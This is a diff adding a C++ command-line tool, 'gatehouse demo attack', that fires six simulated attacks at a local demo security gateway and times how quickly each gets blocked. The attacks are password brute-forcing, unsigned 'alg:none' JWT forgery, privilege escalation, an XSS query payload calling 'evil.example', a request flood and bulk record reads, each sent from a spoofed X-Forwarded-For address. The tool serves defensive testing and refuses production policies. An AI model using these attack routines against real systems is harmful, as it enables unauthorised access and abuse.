@@ -1,0 +1,280 @@
+// gatehouse demo attack: six attacks against a running demo, so that one sees events, blocks, incidents and alerts come
+// up. Each comes from an address of its own out of 203.0.113.0/24 (TEST-NET-3, which nobody has), which the demo's
+// policy lets this machine say for itself (`trusted_proxies`). Only against a gate that is no production.
+#include <fmt/format.h>
+
+#include <algorithm>
+#include <chrono>
+#include <random>
+#include <thread>
+
+#include "base/bytes.h"
+#include "cli/commands.h"
+#include "cli/control/client.h"
+#include "cli/gate/policy_file.h"
+#include "fetch/fetch.h"
+#include "nginx/config/nginx_config.h"
+#include "state/block_table.h"
+#include "state/region.h"
+
+namespace gatehouse::cli {
+namespace {
+
+using std::chrono::milliseconds;
+
+constexpr milliseconds kBlockPatience{10'000};
+constexpr milliseconds kBetweenLooks{20};
+constexpr int kFirstHost = 10;
+constexpr int kLastHost = 240;
+// The demo's own: they are enrolled for the attacks, and nobody else uses them.
+constexpr int kClimber = 990;
+constexpr int kReader = 991;
+constexpr std::string_view kVictim = "demo-victim";
+
+struct DemoOptions {
+  GateOptions gate;
+};
+
+struct Scene {
+  const GateOptions& gate;
+  const gate::Policy& policy;
+  std::string url;
+  std::string ca_file;
+  int host = kFirstHost;  // of the next attacker
+};
+
+struct Attacker {
+  std::string address;
+  std::string token;  // empty: none
+};
+
+Attacker NextAttacker(Scene& scene) { return {fmt::format("203.0.113.{}", scene.host++), {}}; }
+
+struct Shot {
+  std::string method = "GET";
+  std::string path;
+  std::string body = {};
+  std::string type = {};
+  std::string authorization = {};  // instead of the attacker's token
+};
+
+// The status; 0 where there was no answer.
+int Send(const Scene& scene, const Attacker& attacker, const Shot& shot) {
+  fetch::Request request;
+  request.method = shot.method;
+  request.url = scene.url + shot.path;
+  request.ca_file = scene.ca_file;
+  request.headers.push_back({"X-Forwarded-For", base::SecretString(std::string(attacker.address))});
+  request.headers.push_back({"Origin", base::SecretString(std::string(scene.url))});
+  if (!shot.type.empty()) request.headers.push_back({"Content-Type", base::SecretString(std::string(shot.type))});
+  const std::string bearer = shot.authorization.empty() ? attacker.token : shot.authorization;
+  if (!bearer.empty()) request.headers.push_back({"Authorization", base::SecretString("Bearer " + bearer)});
+  request.body = base::SecretString(std::string(shot.body));
+  const auto answer = fetch::Send(request);
+  return answer ? answer->status : 0;
+}
+
+base::Result<std::string> TokenOf(const Scene& scene, int droplet, std::string_view role) {
+  Value body = Object({{"id", droplet},
+                       {"name", "Attacker of the demo"},
+                       {"steward", "demo@localhost"},
+                       {"url", "http://127.0.0.1:9014"},
+                       {"roles", std::vector<std::string>{std::string(role)}}});
+  auto answer = Ask(scene.gate, {"POST", "/admin/droplets", std::move(body)});
+  if (!answer) answer = Ask(scene.gate, {"POST", fmt::format("/admin/credentials/{}", droplet), EmptyObject()});
+  if (!answer) return base::Fail("The droplet of an attack could not be enrolled", std::to_string(droplet));
+  const std::string id = answer->TextOf("client_id");
+  const std::string secret = answer->TextOf("client_secret");
+  fetch::Request request;
+  request.method = "POST";
+  request.url = scene.url + "/oauth/token";
+  request.ca_file = scene.ca_file;
+  request.headers.push_back({"Content-Type", base::SecretString("application/x-www-form-urlencoded")});
+  request.body = fetch::FormBody({{"grant_type", "client_credentials"}, {"client_id", id}, {"client_secret", secret}});
+  const auto token = fetch::Send(request);
+  if (!token || token->status != 200) return base::Fail("The registry gives no token", std::to_string(droplet));
+  return Value::FromJson(token->body.Reveal()).value_or(Value()).TextOf("access_token");
+}
+
+// {"alg":"none"}: nobody signed it.
+std::string ForgedToken(int number) {
+  const std::string header = base::Base64UrlEncode(R"({"alg":"none","typ":"JWT"})");
+  const std::string claims = base::Base64UrlEncode(fmt::format(R"({{"sub":"admin","try":{}}})", number));
+  return header + "." + claims + ".";
+}
+
+// --- the attacks: what each does, and what it says it does
+
+std::string GuessPasswords(Scene& scene, Attacker& attacker) {
+  Value body = Object({{"name", kVictim}, {"roles", std::vector<std::string>{}}});
+  std::random_device random;
+  base::SecretString password(fmt::format("Otter-{:x}-{:x}-river Lantern", random(), random()));
+  (void)Ask(scene.gate, {"POST", "/admin/users", std::move(body), std::move(password)});  // it may be there already
+  for (int i = 0; i < 75; ++i) {
+    (void)Send(scene, attacker,
+               {"POST", "/_gatehouse/login", fmt::format("name={}&password=guess-{}", kVictim, i),
+                "application/x-www-form-urlencoded"});
+  }
+  return fmt::format("75 logins as {}, each with another password", kVictim);
+}
+
+std::string GuessTokens(Scene& scene, Attacker& attacker) {
+  for (int i = 0; i < 25; ++i) (void)Send(scene, attacker, {.path = "/records/1", .authorization = ForgedToken(i)});
+  return "25 tokens that nobody signed";
+}
+
+std::string ClimbUp(Scene& scene, Attacker& attacker) {
+  auto token = TokenOf(scene, kClimber, "operator");
+  if (!token) return token.error().Text();
+  attacker.token = *token;
+  for (int i = 0; i < 25; ++i) (void)Send(scene, attacker, {.path = "/_gatehouse/metrics"});
+  return fmt::format("droplet {} asks 25 times for what only an admin may see", kClimber);
+}
+
+std::string Inject(Scene& scene, Attacker& attacker) {
+  (void)Send(scene, attacker, {.path = "/health?name=%3Cscript%3Efetch('//evil.example')%3C/script%3E"});
+  return "a script in a query";
+}
+
+std::string Flood(Scene& scene, Attacker& attacker) {
+  for (int i = 0; i < 170; ++i) (void)Send(scene, attacker, {"POST", "/message", "{}", "application/json"});
+  return "170 messages at once, where 100 a minute are allowed";
+}
+
+std::string ReadEverything(Scene& scene, Attacker& attacker) {
+  auto token = TokenOf(scene, kReader, "operator");
+  if (!token) return token.error().Text();
+  attacker.token = *token;
+  constexpr int kUsualSeconds = 15;
+  for (int i = 0; i < kUsualSeconds; ++i) {
+    (void)Send(scene, attacker, {.path = fmt::format("/records/{}", i)});
+    std::this_thread::sleep_for(std::chrono::seconds(1));
+  }
+  for (int i = 0; i < 500; ++i) (void)Send(scene, attacker, {.path = fmt::format("/records/{}", i)});
+  return fmt::format("droplet {} reads a record a second for {} s, then 500 at once", kReader, kUsualSeconds);
+}
+
+struct Attack {
+  std::string_view name;
+  std::string (*play)(Scene& scene, Attacker& attacker);
+  int droplet = 0;  // as which it comes: then that is blocked, and not the address
+};
+
+constexpr Attack kAttacks[] = {
+    {"password guessing", GuessPasswords},
+    {"token guessing", GuessTokens},
+    {"privilege escalation", ClimbUp, kClimber},
+    {"injection", Inject},
+    {"flood", Flood},
+    {"unusual data access", ReadEverything, kReader},
+};
+
+bool IsOf(const state::Block& block, int droplet) {
+  return block.identity && block.identity->subject == fmt::format("droplet:{}", droplet);
+}
+
+// From now until the gate keeps the attacker out.
+std::optional<milliseconds> TimeToBlock(const Scene& scene, const Attack& attack, const Attacker& attacker) {
+  const base::Steady begin = base::ReadClocks().steady;
+  const auto region = state::Region::OpenReadOnly(nginx::StateFile(scene.policy));
+  if (!region) return {};
+  const state::BlockTable blocks(*region);
+  const auto address = base::IpAddress::Parse(attacker.address);
+  while (base::ReadClocks().steady - begin < kBlockPatience) {
+    const base::Wall now = base::ReadClocks().wall;
+    const auto is_blocked = [&](const state::Block& block) { return IsOf(block, attack.droplet); };
+    const bool blocked =
+        attack.droplet != 0 ? std::ranges::any_of(blocks.List(now), is_blocked) : blocks.AddressBlocked(*address, now);
+    if (blocked) return base::ReadClocks().steady - begin;
+    std::this_thread::sleep_for(kBetweenLooks);
+  }
+  return {};
+}
+
+base::Result<> CheckStage(const gate::Policy& policy, const std::string& file) {
+  if (policy.environment == gate::Environment::kProduction) {
+    return base::Fail("Attacks are played against a demo, and this is production", file,
+                      "give -c build/demo/gatehouse.yaml");
+  }
+  const bool whole = policy.control && policy.control->registry && policy.control->people && policy.control->watch;
+  if (!whole || !policy.proxies.Trusts(*base::IpAddress::Parse("127.0.0.1"))) {
+    return base::Fail(
+        "This policy is not the demo's: it needs control with registry, people and watch, and trusted_proxies: "
+        "[127.0.0.1]",
+        file, "start the demo with ./run.sh, and give -c build/demo/gatehouse.yaml");
+  }
+  return {};
+}
+
+// Blocks of an earlier run would keep the attackers out from the start.
+void LiftEarlierBlocks(const gate::Policy& policy) {
+  const auto region = state::Region::Open(nginx::StateFile(policy));
+  if (!region) return;
+  state::BlockTable blocks(*region);
+  for (const state::Block& block : blocks.List(base::ReadClocks().wall)) {
+    if (IsOf(block, kClimber) || IsOf(block, kReader)) (void)blocks.RemoveIdentity(*block.identity);
+  }
+}
+
+void ShowIncidents(const GateOptions& gate) {
+  const auto answer = Ask(gate, {"GET", "/admin/incidents"});
+  const Value* list = answer ? answer->Find("incidents") : nullptr;
+  if (list == nullptr || list->AsList() == nullptr) return;
+  Print("\nOpen incidents:");
+  for (const Value& incident : *list->AsList()) {
+    Print(fmt::format("{:>4}  {:<10}{:<26}{}", incident.TextOf("id"), incident.TextOf("severity"),
+                      Visible(incident.TextOf("about")), Visible(incident.TextOf("sentence"))));
+  }
+}
+
+Outcome PlayAll(const DemoOptions& options) {
+  const auto policy = CompilePolicy(options.gate);
+  if (!policy) return std::unexpected(policy.error());
+  if (auto good = CheckStage(*policy, options.gate.policy); !good) return std::unexpected(good.error());
+  std::random_device random;
+  const int span = kLastHost - kFirstHost - static_cast<int>(std::size(kAttacks));
+  Scene scene{
+      .gate = options.gate,
+      .policy = *policy,
+      .url = policy->control->url,
+      .ca_file = policy->tls.enabled && policy->tls.certificate.empty() ? policy->run_dir + "/development.crt" : "",
+      .host = kFirstHost + static_cast<int>(random() % static_cast<unsigned>(span))};
+  if (Send(scene, {"127.0.0.1", {}}, {.path = "/health"}) == 0) {
+    return base::Fail("Nobody answers there", scene.url, "start the demo with ./run.sh");
+  }
+  LiftEarlierBlocks(*policy);
+  int blocked_count = 0;
+  for (const Attack& attack : kAttacks) {
+    Attacker attacker = NextAttacker(scene);
+    Print(fmt::format("{} from {}: {}", attack.name, attacker.address, attack.play(scene, attacker)));
+    const auto blocked = TimeToBlock(scene, attack, attacker);
+    if (blocked) ++blocked_count;
+    Print(blocked ? fmt::format("  blocked, {} ms after the last request", blocked->count())
+                  : "  not blocked: gatehouse events tail shows what the gate saw");
+  }
+  ShowIncidents(options.gate);
+  const std::string where = options.gate.policy;
+  Print(
+      fmt::format("\nTake one through its stages:\n  gatehouse incident show 1 -c {0}\n  gatehouse incident close 1 "
+                  "--lessons 'only a "
+                  "demo' -c {0}\n  gatehouse incident report 1 -c {0}\nThe console: {1}/_gatehouse/console",
+                  where, scene.url));
+  return blocked_count == static_cast<int>(std::size(kAttacks)) ? ExitCode::kFine : ExitCode::kFindings;
+}
+
+}  // namespace
+
+Command DemoGroup() {
+  return {.help = "What the demo (./run.sh) can show",
+          .examples = {"gatehouse demo attack -c build/demo/gatehouse.yaml"}};
+}
+
+Command DemoAttackCommand() {
+  auto options = std::make_shared<DemoOptions>();
+  return {.help = "Play six attacks against the running demo, and say how soon each was blocked",
+          .options = GateOptionList(options->gate),
+          .examples = {"gatehouse demo attack -c build/demo/gatehouse.yaml"},
+          .action = Runs(options, PlayAll)};
+}
+
+}  // namespace gatehouse::cli
